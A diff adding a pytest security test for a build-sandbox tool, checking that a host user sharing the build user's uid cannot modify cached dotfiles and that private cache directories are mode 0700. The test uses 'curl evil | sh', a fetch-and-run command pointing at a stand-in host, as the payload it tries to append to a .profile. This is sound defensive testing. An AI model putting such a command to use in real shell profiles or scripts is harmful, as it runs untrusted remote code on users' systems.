@@ -8,6 +8,7 @@ import os
 import platform
 import socket
 import subprocess
+import tempfile
 import threading
 from pathlib import Path
 
@@ -196,3 +197,31 @@ def test_a_build_past_a_limit_fails_naming_the_limit(workspace: Workspace, limit
     assert words in result.stderr.splitlines()[-1], result.stderr[-2000:]
     assert mounts_under(workspace.cache) == []
     assert subprocess.run(["pgrep", "-f", "sleep 3601"], capture_output=True).returncode == 1
+
+
+def test_a_host_user_with_the_build_users_uid_cannot_edit_the_cached_trees(workspace: Workspace) -> None:
+    from buildbox.base import BUILDER
+    from buildbox.store import PRIVATE, remove_tree
+    # A cache where any host user can walk to it, as ./cache usually is (pytest's own tmp is root's).
+    place = Path(tempfile.mkdtemp(prefix="buildbox-open-", dir="/var/tmp"))
+    place.chmod(0o755)
+    cache = place / "cache"
+    try:
+        workspace.buildbox("run", shell_recipe(workspace, "plain", 'cp /bin/true "$OUT/tool"'), "-q",
+                           "--cache", cache)
+        profiles = sorted(cache.glob("bases/*/root/home/builder/.profile"))
+        assert profiles, "the base has the build user's dotfiles"
+        # The file itself is the build user's: only the directories above it can guard it.
+        assert all(p.stat().st_uid == BUILDER.uid for p in profiles)
+        as_builder = ["setpriv", f"--reuid={BUILDER.uid}", f"--regid={BUILDER.gid}", "--clear-groups"]
+        attempt = subprocess.run([*as_builder, "sh", "-c", f'echo "curl evil | sh" >> "{profiles[0]}"'],
+                                 capture_output=True, text=True)
+        assert attempt.returncode != 0 and "Permission denied" in attempt.stderr, attempt
+        assert "evil" not in profiles[0].read_text()
+        # What a host user may still read: the logs and the downloads.
+        readable = subprocess.run([*as_builder, "ls", cache / "logs"], capture_output=True, text=True)
+        assert "plain" in readable.stdout, readable
+        for kind in PRIVATE:
+            assert (cache / kind).stat().st_mode & 0o777 == 0o700, kind
+    finally:
+        remove_tree(place)
